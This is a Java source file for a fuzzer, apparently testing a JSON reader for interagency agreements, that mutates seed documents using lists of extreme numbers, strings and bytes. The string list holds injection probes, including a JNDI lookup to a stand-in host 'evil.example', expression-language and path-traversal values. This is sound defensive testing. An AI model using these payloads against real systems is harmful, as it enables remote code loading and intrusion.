package org.interagency.agreements.robustness;

import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.Collections;
import java.util.IdentityHashMap;
import java.util.List;
import java.util.Map;

/**
 * The mutations of the fuzzer. Each takes a seed document and a few numbers chosen by jqwik and
 * returns a new document; positions are taken modulo the document's size, so any number is a
 * valid choice and jqwik's generators need no knowledge of the seed.
 */
final class Mutations {

    /** Numbers at the edges of what a reader or a rule might handle. */
    static final List<String> EXTREME_NUMBERS = List.of(
            "NaN", "Infinity", "-Infinity", "1e1000000", "-1e1000000", "1e-1000000", "-0", "-0.0", "0e0",
            "2147483648", "-2147483649", "9223372036854775808", "-9223372036854775809", "1E400", "4.9e-325",
            "1e2147483647", "1e-2147483647", "0.1e-2147483648", "1e-2147483648", "1e2147483648", "0x10", "1_000", "01", ".5", "5.", "+1",
            "9".repeat(65), "1" + "0".repeat(10_000), "0." + "0".repeat(63) + "1");

    /**
     * Strings at the edges: empty, control characters, lone surrogates, expressions, confusables,
     * bad dates and periods, and the earliest and latest dates and the longest periods and
     * durations the reader accepts.
     */
    static final List<String> EXTREME_STRINGS = List.of(
            "\"\"", "\" \"", "\"\\u0000\"", "\"\\ud800\"", "\"\\udc00\\ud800\"", "\"\\u202e\"", "\"\\u200b\"",
            "\"\\ufeff\"", "\"${java.version}\"", "\"#{7*7}\"", "\"{javax.validation.constraints.NotNull.message}\"",
            "\"${jndi:ldap://evil.example/a}\"", "\"\u0430gency\"", "\"a\\\\b\"", "\"\\\"\"", "\"\\/\"",
            "\"2026-02-30\"", "\"+999999999-12-31\"", "\"-999999999-01-01\"", "\"0000-00-00\"", "\"2026-2-3\"",
            "\"P-1D\"", "\"PT-1S\"", "\"P0D\"", "\"PT0S\"", "\"P2147483647Y\"", "\"P-2147483648M\"", "\"P999999999W\"",
            "\"PT9223372036854775807S\"", "\"P1Y-1M\"", "\"p1y\"",
            // The largest values the reader accepts (the ones above it rejects): they reach the rules' date arithmetic.
            "\"9999-12-31\"", "\"0000-01-01\"", "\"P999999999Y\"", "\"P99999999W\"", "\"PT999999999999H\"",
            "\"P999999999DT999999999999H999999999999M999999999999.999999999S\"", "\"us//tx\"", "\"/\"", "\"a/../b\"",
            "\"" + "x".repeat(70) + "\"", "\"" + "y".repeat(20_000) + "\"", "\"é\"", "\"e\u0301\"",
            "\"\uff45\uff4d\uff45\uff52\uff47\uff45\uff4e\uff43\uff59\"", "\"in-force\"", "\"IN_FORCE\"",
            "\"supermajority\"", "\"accountable\"", "null", "true", "[]", "{}", "[null]", "{\"@class\":1}");

    /** Single bytes worth putting anywhere: structure, quotes, escapes, invalid UTF-8 lead and continuation bytes. */
    static final byte[] INTERESTING_BYTES = {
            0, '"', '\'', '\\', '{', '}', '[', ']', ',', ':', '-', '#', '&', '*', '!', '|', '>', '\n', '\t', ' ',
            (byte) 0x80, (byte) 0xbf, (byte) 0xc0, (byte) 0xc1, (byte) 0xe0, (byte) 0xed, (byte) 0xf0, (byte) 0xf4,
            (byte) 0xf5, (byte) 0xfe, (byte) 0xff};

    /** Token lists of the unmutated seeds, which most mutations start from: lexing them once saves most of the lexing. */
    private static final Map<byte[], List<Tokens.Token>> SEED_TOKENS = Collections.synchronizedMap(new IdentityHashMap<>());

    private Mutations() {
    }

    /** Remembers the tokens of a seed document, which must not be changed afterwards. */
    static void seed(byte[] document) {
        SEED_TOKENS.put(document, Tokens.of(document));
    }

    private static List<Tokens.Token> tokens(byte[] document) {
        List<Tokens.Token> tokens = SEED_TOKENS.get(document);
        return tokens != null ? tokens : Tokens.of(document);
    }

    /** Flips one bit of one byte. */
    static byte[] flipBit(byte[] document, int position, int bit) {
        byte[] out = document.clone();
        int at = Math.floorMod(position, out.length);
        out[at] = (byte) (out[at] ^ (1 << Math.floorMod(bit, 8)));
        return out;
    }

    /** Overwrites one byte with an interesting one. */
    static byte[] setByte(byte[] document, int position, int which) {
        byte[] out = document.clone();
        out[Math.floorMod(position, out.length)] = INTERESTING_BYTES[Math.floorMod(which, INTERESTING_BYTES.length)];
        return out;
    }

    /** Deletes {@code count} tokens from the token at {@code position}. */
    static byte[] deleteTokens(byte[] document, int position, int count) {
        List<Tokens.Token> tokens = tokens(document);
        int first = Math.floorMod(position, tokens.size());
        int last = Math.min(tokens.size() - 1, first + Math.max(0, count - 1));
        return splice(document, tokens.get(first).start(), tokens.get(last).end(), new byte[0]);
    }

    /** Writes the tokens from {@code position} twice in a row, {@code count} of them. */
    static byte[] duplicateTokens(byte[] document, int position, int count) {
        List<Tokens.Token> tokens = tokens(document);
        int first = Math.floorMod(position, tokens.size());
        int last = Math.min(tokens.size() - 1, first + Math.max(0, count - 1));
        int start = tokens.get(first).start();
        int end = tokens.get(last).end();
        byte[] copy = java.util.Arrays.copyOfRange(document, start, end);
        return splice(document, end, end, copy);
    }

    /** Replaces the {@code which}-th number of the document with an extreme number. */
    static byte[] extremeNumber(byte[] document, int which, int extreme) {
        return replaceToken(document, Tokens.Kind.NUMBER, which,
                EXTREME_NUMBERS.get(Math.floorMod(extreme, EXTREME_NUMBERS.size())));
    }

    /** Replaces the {@code which}-th string (a key or a value) of the document with an extreme string. */
    static byte[] extremeString(byte[] document, int which, int extreme) {
        return replaceToken(document, Tokens.Kind.STRING, which,
                EXTREME_STRINGS.get(Math.floorMod(extreme, EXTREME_STRINGS.size())));
    }

    /** The beginning of {@code first} up to a token boundary, then the end of {@code second} from a token boundary. */
    static byte[] crossOver(byte[] first, int cutInFirst, byte[] second, int cutInSecond) {
        List<Tokens.Token> a = tokens(first);
        List<Tokens.Token> b = tokens(second);
        int end = a.get(Math.floorMod(cutInFirst, a.size())).end();
        int start = b.get(Math.floorMod(cutInSecond, b.size())).start();
        ByteArrayOutputStream out = new ByteArrayOutputStream(end + second.length - start);
        out.write(first, 0, end);
        out.write(second, start, second.length - start);
        return out.toByteArray();
    }

    /** Cuts the document after {@code position} bytes. */
    static byte[] truncate(byte[] document, int position) {
        return java.util.Arrays.copyOf(document, Math.floorMod(position, document.length));
    }

    private static byte[] replaceToken(byte[] document, Tokens.Kind kind, int which, String replacement) {
        List<Tokens.Token> tokens = tokens(document).stream().filter(t -> t.kind() == kind).toList();
        if (tokens.isEmpty()) {
            return document;
        }
        Tokens.Token token = tokens.get(Math.floorMod(which, tokens.size()));
        return splice(document, token.start(), token.end(), replacement.getBytes(StandardCharsets.UTF_8));
    }

    private static byte[] splice(byte[] document, int start, int end, byte[] replacement) {
        byte[] out = new byte[document.length - (end - start) + replacement.length];
        System.arraycopy(document, 0, out, 0, start);
        System.arraycopy(replacement, 0, out, start, replacement.length);
        System.arraycopy(document, end, out, start + replacement.length, document.length - end);
        return out;
    }
}
